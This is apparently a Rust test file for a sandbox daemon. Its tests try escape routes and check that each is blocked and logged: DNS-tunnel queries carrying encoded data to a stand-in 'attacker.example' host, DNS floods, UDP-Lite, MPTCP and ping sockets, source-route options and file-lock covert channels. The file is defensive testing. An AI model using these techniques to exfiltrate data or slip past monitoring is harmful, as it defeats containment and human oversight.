    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().expect("swapper");
    assert_eq!(
        leaked, 0,
        "{leaked} of 60 calls read a file outside `within`"
    );
    eprintln!("{read_inside} of 60 calls read the file inside while it was being swapped");
}

// --- No resolver with data of the tool's choosing (issue 12, class 4) ---

#[test]
fn escape_a_dns_query_for_a_name_of_the_tools_choosing_never_leaves_the_host() {
    if !support::privileged(
        "escape_a_dns_query_for_a_name_of_the_tools_choosing_never_leaves_the_host",
    ) {
        return;
    }
    // On e4cd0a2 a call whose `connect` named a host could send UDP and TCP to every
    // resolv.conf nameserver on port 53, so `<data>.attacker.example` reached the resolver (as
    // reported; not re-run here: this test sends nothing off the host). Now every DNS query of
    // the call, to any server, goes to guardd's responder, which answers the approved names
    // only. A local server on 127.0.0.77:53 stands in for the nameserver and must hear nothing.
    let nameserver = std::net::UdpSocket::bind("127.0.0.77:53").expect("bind 127.0.0.77:53");
    nameserver.set_nonblocking(true).expect("nonblocking");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(&format!("connect = [\"localhost:{port}\"]"), ""));

    // Control: the approved name resolves, through the nameserver the tool asked (the reply
    // looks as if it came from there), to the address guardd pinned; the connect works.
    let out = call(
        &guardd,
        &[
            "dns-query",
            "127.0.0.77:53",
            "localhost",
            "--",
            "connect",
            &format!("127.0.0.1:{port}"),
        ],
    );
    assert_ok(&out);
    assert!(text(&out.stdout).contains("answer 127.0.0.1"), "{out:?}");
    let row = last_receipt(&guardd);
    assert_eq!(row["effects_observed"]["verdict"], "conformed", "{row:#}");
    assert_eq!(
        row["effects_observed"]["dns"][0],
        serde_json::json!({ "name": "localhost", "type": "A", "approved": true }),
        "{row:#}"
    );
    // And glibc's resolver, which asks for its socket's error queue (IP_RECVERR) and gives the
    // lookup up when that is refused.
    assert_ok(&call(&guardd, &["connect", &format!("localhost:{port}")]));
    assert_verdict(&guardd, "conformed");

    // The tunnel: refused by guardd's responder, heard by no nameserver, and a divergence.
    let out = call(
        &guardd,
        &["dns-query", "127.0.0.77:53", "c2VjcmV0.attacker.example"],
    );
    assert!(text(&out.stdout).contains("rcode 5"), "{out:?}");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert_eq!(
        seen["dns"][0]["name"], "c2vjcmv0.attacker.example",
        "{row:#}"
    );
    assert_eq!(seen["dns"][0]["approved"], false, "{row:#}");
    let mut buf = [0u8; 512];
    assert!(
        nameserver.recv_from(&mut buf).is_err(),
        "a query reached the nameserver"
    );
}

// --- No receipt flooded into silence (issue 31) ---

/// The server the DNS tests ask: a documentation address no call may reach, so a question the
/// kernel did not hand to guardd's responder would fail with EPERM rather than go anywhere.
const NAMESERVER: &str = "192.0.2.53:53";

#[test]
fn escape_a_flood_of_dns_questions_hides_no_unapproved_name() {
    if !support::privileged("escape_a_flood_of_dns_questions_hides_no_unapproved_name") {
        return;
    }
    // On 48168f5 the responder listed at most 64 distinct questions (name and type) and
    // dropped the rest unjudged: 70 questions for the approved name, of made-up types, then one
    // for an unapproved name, and the receipt said `conformed` (found by an outside attack).
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("connect = [\"localhost:9\"]", ""));

    // Control: 70 answered questions. Conformed, and the receipt says it lists 64 of them.
    assert_ok(&call(
        &guardd,
        &["dns-types", NAMESERVER, "localhost", "70"],
    ));
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "conformed", "{row:#}");
    assert_eq!(seen["dns"].as_array().map(Vec::len), Some(64), "{row:#}");
    assert_eq!(
        (&seen["dns_judged"], &seen["dns_unlisted"]),
        (&70.into(), &6.into()),
        "{row:#}"
    );
    let verified = seen["verified"]["dns"].as_str().unwrap_or_default();
    assert!(
        verified.contains("70 questions judged, 64 distinct listed; 6 more"),
        "{row:#}"
    );

    // The flood, then the tunnel: diverged, and the unapproved name is listed.
    let out = call(
        &guardd,
        &[
            "dns-types",
            NAMESERVER,
            "localhost",
            "70",
            "--",
            "dns-query",
            NAMESERVER,
            "c2VjcmV0.attacker.example",
        ],
    );
    assert!(text(&out.stdout).contains("rcode 5"), "{out:?}");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    let refused: Vec<&serde_json::Value> = seen["dns"]
        .as_array()
        .expect("dns")
        .iter()
        .filter(|q| q["approved"] == false)
        .collect();
    assert_eq!(refused.len(), 1, "{row:#}");
    assert_eq!(refused[0]["name"], "c2vjcmv0.attacker.example", "{row:#}");
    assert_eq!(
        (&seen["dns_judged"], &seen["dns_unlisted"]),
        (&71.into(), &7.into()),
        "{row:#}"
    );
    assert_eq!(seen["divergences"][0]["effect"], "dns", "{row:#}");
}

#[test]
fn escape_a_dns_question_sent_as_the_tool_exits_is_judged() {
    if !support::privileged("escape_a_dns_question_sent_as_the_tool_exits_is_judged") {
        return;
    }
    // On 48168f5 the responder was stopped at the call's end without reading what was still
    // queued on its socket: a question the tool sent just before it exited, behind a burst the
    // responder was still answering, went unjudged, and the receipt said `conformed`.
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("connect = [\"localhost:9\"]", ""));

    // Control: a burst of answered questions, the last one too, sent as the tool exits: all
    // judged, conformed.
    let burst = |last: &str| {
        let out = call(
            &guardd,
            &["dns-burst", NAMESERVER, "localhost", "550", last],
        );
        assert_ok(&out);
        last_receipt(&guardd)
    };
    let row = burst("localhost");
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "conformed", "{row:#}");
    assert_eq!(seen["dns_judged"], 551, "{row:#}");
    assert!(seen.get("dns_unjudged").is_none(), "{row:#}");

    // The same burst, the last question for a name of the tool's choosing.
    let row = burst("c2VjcmV0.attacker.example");
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    assert_eq!(seen["dns_judged"], 551, "{row:#}");
    assert!(
        seen["dns"]
            .as_array()
            .expect("dns")
            .iter()
            .any(|q| q["name"] == "c2vjcmv0.attacker.example" && q["approved"] == false),
        "{row:#}"
    );
}

// --- Inet protocols the cgroup programs do not see ---

/// A UDP-Lite socket bound to `ip` on a free port: it receives what a call's UDP-Lite socket
/// sends there (a UDP socket on the same port would not).
fn udplite_receiver(ip: std::net::Ipv4Addr) -> std::net::UdpSocket {
    use std::os::fd::FromRawFd as _;
    // SAFETY: socket takes plain integers and returns a new fd or -1.
    let fd = unsafe {
        libc::socket(
            libc::AF_INET,
            libc::SOCK_DGRAM | libc::SOCK_CLOEXEC | libc::SOCK_NONBLOCK,
            libc::IPPROTO_UDPLITE,
        )
    };
    assert!(
        fd >= 0,
        "udplite socket: {}",
        std::io::Error::last_os_error()
    );
    let sin = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(ip).to_be(),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: sin is a live sockaddr_in of the length given; fd is ours.
    let rc = unsafe {
        libc::bind(
            fd,
            (&raw const sin).cast(),
            size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    assert_eq!(rc, 0, "bind udplite: {}", std::io::Error::last_os_error());
    // SAFETY: fd is an open datagram socket owned by nothing else.
    unsafe { std::net::UdpSocket::from_raw_fd(fd) }
}

/// Whether a datagram waits on `sock` (within a short grace for loopback delivery).
fn datagram_arrived(sock: &std::net::UdpSocket) -> bool {
    let mut buf = [0u8; 64];
    for _ in 0..20 {
        if sock.recv(&mut buf).is_ok() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    false
}

#[test]
fn escape_an_inet_protocol_other_than_tcp_and_udp_reaches_no_destination() {
    if !support::privileged("escape_an_inet_protocol_other_than_tcp_and_udp_reaches_no_destination")
    {
        return;
    }
    // UDP-Lite (IPPROTO_UDPLITE) is a SOCK_DGRAM inet socket, which seccomp and sock_create let
    // through for a call that connects; its connect(2) runs no cgroup connect4 program (the
    // kernel's udplite_prot has no pre_connect, udp_prot has), and a connected socket's sends
    // run no sendmsg4. Landed on 3f5e572 as exit 0, `conformed`, `connects: []`, the datagram
    // delivered (run there).
    let approved = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let to_approved = approved.local_addr().expect("addr").to_string();
    let receiver = udplite_receiver(std::net::Ipv4Addr::new(127, 0, 0, 2));
    let to_other = receiver.local_addr().expect("addr").to_string();
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(
        &format!("connect = [\"{to_approved}\"]\non_divergence = \"deny\""),
        "",
    ));
    // Control: TCP to the approved destination, by connect(2) and by sendto(MSG_FASTOPEN).
    for mode in ["connect", "sendto"] {
        assert_ok(&call(&guardd, &["net", "tcp", mode, &to_approved]));
        assert_verdict(&guardd, "conformed");
    }
    // The same UDP-Lite send from the host arrives: the receiver works.
    let out = output({
        let mut c = Command::new(support::bin("guard-testtool"));
        c.args(["net", "udplite", "connect", &to_other]);
        c
    });
    assert_ok(&out);
    assert!(
        datagram_arrived(&receiver),
        "the host's own datagram did not arrive"
    );

    for mode in ["connect", "sendto"] {
        let out = call(&guardd, &["net", "udplite", mode, &to_other]);
        assert_errno(&out, "EPERM");
        assert_verdict(&guardd, "diverged");
        assert!(
            !datagram_arrived(&receiver),
            "a UDP-Lite datagram of the call arrived ({mode})"
        );
        let row = last_receipt(&guardd);
        let socket = &row["effects_observed"]["sockets"][0];
        assert_eq!(socket["protocol"], libc::IPPROTO_UDPLITE, "{row:#}");
    }
    // MPTCP to the approved destination: landlock's TCP rules do not govern it, and the
    // subflows its path manager adds connect from a kernel worker, where the cgroup programs
    // cannot tell the call. Refused at socket(2), and reported.
    let out = call(&guardd, &["net", "mptcp", "connect", &to_approved]);
    assert_errno(&out, "EPERM");
    assert_verdict(&guardd, "diverged");
    let row = last_receipt(&guardd);
    let socket = &row["effects_observed"]["sockets"][0];
    assert_eq!(socket["protocol"], libc::IPPROTO_MPTCP, "{row:#}");

    // A ping socket, where `net.ipv4.ping_group_range` admits the tool's group (systemd's
    // default admits every group): sendto(2) to any address runs no cgroup program. Landed on
    // 3f5e572 as exit 0, `conformed`, the echo request sent to 127.0.0.2 (run there).
    let _range = PingRange::admit(tool_gid());
    let out = call(&guardd, &["net", "icmp", "sendto", "127.0.0.2:0"]);
    assert_errno(&out, "EPERM");
    assert_verdict(&guardd, "diverged");
    let row = last_receipt(&guardd);
    let socket = &row["effects_observed"]["sockets"][0];
    assert_eq!(socket["protocol"], libc::IPPROTO_ICMP, "{row:#}");
}

/// The group the test tool runs as (guard-tool's).
fn tool_gid() -> u32 {
    let out = output({
        let mut c = Command::new("id");
        c.args(["-g", "guard-tool"]);
        c
    });
    text(&out.stdout).trim().parse().expect("guard-tool's gid")
}

/// `net.ipv4.ping_group_range` widened to one group for a test, restored on drop.
struct PingRange(String);

const PING_RANGE: &str = "/proc/sys/net/ipv4/ping_group_range";

impl PingRange {
    fn admit(gid: u32) -> Self {
        let before = fs::read_to_string(PING_RANGE).expect("read ping_group_range");
        fs::write(PING_RANGE, format!("{gid} {gid}")).expect("write ping_group_range");
        Self(before.split_whitespace().collect::<Vec<_>>().join(" "))
    }
}

impl Drop for PingRange {
    fn drop(&mut self) {
        let _ = fs::write(PING_RANGE, &self.0);
    }
}

// --- IP options that send a packet elsewhere than the address the programs judged ---

/// A packet's destination, protocol (IPv6: the fixed header's next header) and destination
/// port (TCP and UDP only).
struct Packet {
    daddr: std::net::IpAddr,
    proto: u8,
    dport: Option<u16>,
}

impl Packet {
    /// Reads an IPv4 or IPv6 packet from its IP header on.
    fn parse(p: &[u8]) -> Option<Self> {
        let port_at = |at: usize, proto: u8| {
            let tcp_or_udp = proto == libc::IPPROTO_TCP as u8 || proto == libc::IPPROTO_UDP as u8;
            let b = p.get(at + 2..at + 4).filter(|_| tcp_or_udp)?;
            Some(u16::from_be_bytes([b[0], b[1]]))
        };
        match p.first()? >> 4 {
            4 => {
                let ihl = usize::from(p[0] & 0xf) * 4;
                let daddr: [u8; 4] = p.get(16..20)?.try_into().ok()?;
                Some(Self {
                    daddr: daddr.into(),
                    proto: p[9],
                    dport: port_at(ihl, p[9]),
                })
            }
            6 => {
                let daddr: [u8; 16] = p.get(24..40)?.try_into().ok()?;
                Some(Self {
                    daddr: daddr.into(),
                    proto: p[6],
                    dport: port_at(40, p[6]),
                })
            }
            _ => None,
        }
    }
}

/// The IP packets on the loopback device, as the kernel sends (and receives) them.
struct Sniffer(std::os::fd::OwnedFd);

impl Sniffer {
    fn on_loopback() -> Self {
        use std::os::fd::{AsRawFd as _, FromRawFd as _};
        let all = (libc::ETH_P_ALL as u16).to_be();
        // SAFETY: socket takes plain integers and returns a new fd or -1.
        let fd = unsafe {
            libc::socket(
                libc::AF_PACKET,
                libc::SOCK_DGRAM | libc::SOCK_CLOEXEC | libc::SOCK_NONBLOCK,
                i32::from(all),
            )
        };
        assert!(
            fd >= 0,
            "packet socket: {}",
            std::io::Error::last_os_error()
        );
        // SAFETY: fd is a new socket owned by nothing else.
        let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
        // Room for the other tests' loopback traffic too: a packet the sniffer dropped would
        // pass for one never sent.
        let room: libc::c_int = 16 << 20;
        // SAFETY: room is a live c_int; ll is a live sockaddr_ll of the length given; the name
        // is NUL-terminated.
        unsafe {
            libc::setsockopt(
                fd.as_raw_fd(),
                libc::SOL_SOCKET,
                libc::SO_RCVBUFFORCE,
                (&raw const room).cast(),
                size_of::<libc::c_int>() as libc::socklen_t,
            );
            let mut ll: libc::sockaddr_ll = std::mem::zeroed();
            ll.sll_family = libc::AF_PACKET as u16;
            ll.sll_protocol = all;
            ll.sll_ifindex = libc::if_nametoindex(c"lo".as_ptr()) as i32;
            let rc = libc::bind(
                fd.as_raw_fd(),
                (&raw const ll).cast(),
                size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            );
            assert_eq!(rc, 0, "bind lo: {}", std::io::Error::last_os_error());
        }
        Self(fd)
    }

    /// Whether a packet `wanted` went by since the last look; waits until the device has been
    /// quiet for a moment.
    fn saw(&self, wanted: impl Fn(&Packet) -> bool) -> bool {
        use std::os::fd::AsRawFd as _;
        let mut seen = false;
        let mut buf = [0u8; 2048];
        let mut quiet = 0;
        while quiet < 3 {
            // SAFETY: buf is a live buffer of the length given; the fd is ours.
            let n =
                unsafe { libc::recv(self.0.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
            if n < 0 {
                quiet += 1;
                std::thread::sleep(Duration::from_millis(20));
                continue;
            }
            seen |= Packet::parse(&buf[..n as usize]).is_some_and(|p| wanted(&p));
        }
        seen
    }
}

#[test]
fn escape_a_source_route_sends_no_packet_past_the_judged_destination() {
    if !support::privileged("escape_a_source_route_sends_no_packet_past_the_judged_destination") {
        return;
    }
    // The connect and sendmsg programs judge the address a call names; a source route in the
    // packet's header then sends it to a first hop of the call's choosing. ::1 and 127.0.0.2
    // stand in for the attacker's host; 2001:db8::1 (documentation) for an approved one, and
    // localhost gives the call a DNS responder.
    let approved = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = approved.local_addr().expect("addr").port();
    let to_approved = format!("127.0.0.1:{port}");
    let sniffer = Sniffer::on_loopback();
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(
        &format!(
            "connect = [\"{to_approved}\", \"[2001:db8::1]:{port}\", \"localhost:{port}\"]\n\
             on_divergence = \"deny\""
        ),
        "",
    ));
    let tcp = libc::IPPROTO_TCP as u8;
    // Control: the approved destination, no options; the sniffer sees the SYN go there.
    assert_ok(&call(&guardd, &["connect", &to_approved]));
    assert_verdict(&guardd, "conformed");
    let localhost = std::net::IpAddr::from(std::net::Ipv4Addr::LOCALHOST);
    assert!(
        sniffer.saw(|p| p.daddr == localhost && p.proto == tcp && p.dport == Some(port)),
        "the sniffer saw no control packet"
    );

    // IPv6: a segment routing header (which the kernel lets any user set) through ::1 on a
    // connect to the approved 2001:db8::1: the SYN would go to ::1 first.
    let hop = std::net::IpAddr::from(std::net::Ipv6Addr::LOCALHOST);
    let out = call(
        &guardd,
        &["ipopt", "srh=::1", "tcp", &format!("[2001:db8::1]:{port}")],
    );
    // 43: a routing header follows the fixed one.
    let to_hop = sniffer.saw(|p| p.daddr == hop && p.proto == libc::IPPROTO_ROUTING as u8);
    let row = last_receipt(&guardd);
    assert!(
        !to_hop && diverged_by_packet(&row),
        "a SYN went to {hop} ({to_hop}): {out:?} {row:#}"
    );

    // IPv4 options of any kind: the packet is dropped as it leaves, and the TCP connect (which
    // the kernel retries, so the tool cannot tell) sends nothing.
    let out = call(&guardd, &["ipopt", "rr", "tcp", &to_approved]);
    let sent = sniffer.saw(|p| p.daddr == localhost && p.proto == tcp && p.dport == Some(port));
    let row = last_receipt(&guardd);
    assert!(
        !sent && diverged_by_packet(&row),
        "a SYN with options went out ({sent}): {out:?} {row:#}"
    );
    // A DNS query, which sendmsg4 hands to guardd's responder: the send itself fails.
    let out = call(&guardd, &["ipopt", "rr", "udp", "127.0.0.77:53"]);
    let row = last_receipt(&guardd);
    assert!(
        out.status.code() != Some(0) && diverged_by_packet(&row),
        "a query with options went out: {out:?} {row:#}"
    );

    // An IPv4 source route: the kernel refuses it to a process without CAP_NET_RAW, which no
    // call has; were it set, the egress check above would drop the packet.
    let out = call(&guardd, &["ipopt", "lsrr=127.0.0.2", "tcp", &to_approved]);
    assert_errno(&out, "EPERM");
    let to_hop = std::net::IpAddr::from(std::net::Ipv4Addr::new(127, 0, 0, 2));
    assert!(
        !sniffer.saw(|p| p.daddr == to_hop),
        "a packet went to {to_hop}"
    );
}

/// Whether the receipt says the call diverged because the kernel dropped a packet it sent.
fn diverged_by_packet(row: &serde_json::Value) -> bool {
    let seen = &row["effects_observed"];
    seen["verdict"] == "diverged" && seen["outbound_dropped"].as_u64() >= Some(1)
}

// --- No channel through record locks on files calls may only read (issue 31, point 3) ---

/// Whether `/proc/locks` shows a lock on `path`'s inode.
fn locked_in_proc(path: &Path) -> bool {
    use std::os::unix::fs::MetadataExt as _;
    let meta = fs::metadata(path).expect("stat");
    // MAJOR:MINOR:INODE, the device in hex: an inode number alone is any device's.
    let (major, minor) = (libc::major(meta.dev()), libc::minor(meta.dev()));
    let id = format!("{major:02x}:{minor:02x}:{}", meta.ino());
    fs::read_to_string("/proc/locks")
        .expect("/proc/locks")
        .lines()
        .any(|l| l.split_whitespace().nth(5) == Some(id.as_str()))
}

#[test]
fn escape_two_calls_cannot_talk_through_locks_on_a_file_they_may_only_read() {
    if !support::privileged(
        "escape_two_calls_cannot_talk_through_locks_on_a_file_they_may_only_read",
    ) {
        return;
    }
    let s = Setup::new();
    let out = s.subdir("out", 0o777);
    let shared = s.subdir("shared", 0o755).join("table");
    fs::write(&shared, "every call may read this\n").expect("write");
    let own = out.join("own.lock");
    fs::write(&own, "").expect("write");
    fs::set_permissions(&own, fs::Permissions::from_mode(0o666)).expect("chmod");
    let guardd = Guardd::start(&s.policy(
        &format!(
            "read = [\"{}\"]\nwrite = [\"{}\"]",
            shared.display(),
            out.display()
        ),
        "",
    ));
    // Control: a tool locks what it writes, every way tools do (git, sqlite, pip, cargo).
    let own = own.display().to_string();
    let out_ok = call(
        &guardd,
        &[
            "flock",
            &own,
            "ex",
            "--",
            "ofd-lock",
            &own,
            "wr",
            "--",
            "posix-lock",
            &own,
            "wr",
        ],
    );
    assert_ok(&out_ok);
    assert_verdict(&guardd, "conformed");
    let shared_s = shared.display().to_string();
    // The sender's half: a lock on a file it may only read. Killed before it returns from the
    // lock (it never prints), reported, and the lock gone with it.
    // And on /dev/null, which every call may write: no device file is a call's to lock.
    for lock in [
        vec!["ofd-lock", &shared_s, "rd"],
        vec!["posix-lock", &shared_s, "rd"],
        vec!["flock", &shared_s, "sh"],
        vec!["flock", "/dev/null", "ex"],
    ] {
        let mut actions = lock.clone();
        actions.extend(["--", "sleep", "5"]);
        let out = call(&guardd, &actions);
        assert_eq!(out.status.code(), Some(137), "{lock:?}: {out:?}");
        assert!(
            !text(&out.stdout).contains("lock"),
            "{lock:?} returned: {out:?}"
        );
        let row = last_receipt(&guardd);
        let seen = &row["effects_observed"];
        assert_eq!(seen["verdict"], "diverged", "{row:#}");
        assert_eq!(seen["divergences"][0]["effect"], "lock", "{row:#}");
        let name = Path::new(lock[1]).file_name().and_then(|n| n.to_str());
        assert_eq!(
            seen["divergences"][0]["name"],
            name.unwrap_or("?"),
            "{row:#}"
        );
        assert!(
            !locked_in_proc(Path::new(lock[1])),
            "{lock:?} outlived its call"
        );
    }
    // The receiver's half: testing for another's lock without taking one is refused, and
    // taking one to see whether it conflicts kills the tester before it learns the answer.
    assert_errno(&call(&guardd, &["ofd-getlk", &shared_s, "rd"]), "EPERM");
    let out = call(&guardd, &["flock", &shared_s, "ex"]);
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert!(!text(&out.stdout).contains("flocked"), "{out:?}");
}

/// An exec of a program the call may not read is seen (issue 50, issue 31): landlock refuses it
/// (EACCES) before the kernel's exec check could, and the receipt once said `conformed`; the
/// call's exec judge sees it stop in its seccomp filter, and the receipt, the events and the
/// caller say it diverged. Beside it, the control: an exec of its own program conforms.
#[test]
fn escape_an_exec_landlock_refuses_is_a_divergence() {
    if !support::privileged("escape_an_exec_landlock_refuses_is_a_divergence") {
        return;
    }
    let s = Setup::new();
    let hidden = s.subdir("hidden", 0o755).join("hello");
    fs::copy("/bin/true", &hidden).expect("copy");
    fs::set_permissions(&hidden, fs::Permissions::from_mode(0o755)).expect("chmod");
    let guardd = Guardd::start(&s.policy("on_divergence = \"deny\"", ""));
    // The control: the tool runs itself again.
    let me = s.tool.display().to_string();
    assert_ok(&call(&guardd, &["exec", &me, "ids"]));
    assert_verdict(&guardd, "conformed");
    // A program it may not read: EACCES, and seen.
    let hidden_s = hidden.display().to_string();
    let out = call(&guardd, &["exec", &hidden_s]);
    assert_errno(&out, "EACCES");
    let row = last_receipt(&guardd);
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{row:#}");
    let d = &seen["divergences"][0];
    assert_eq!(
        (
            d["effect"].as_str(),
            d["path"].as_str(),
            d["layer"].as_str()
        ),
        (Some("exec"), Some(hidden_s.as_str()), Some("landlock")),
        "{row:#}"
    );
    assert!(
        text(&out.stderr).contains("not approved to do"),
        "the caller is told: {out:?}"
    );
}
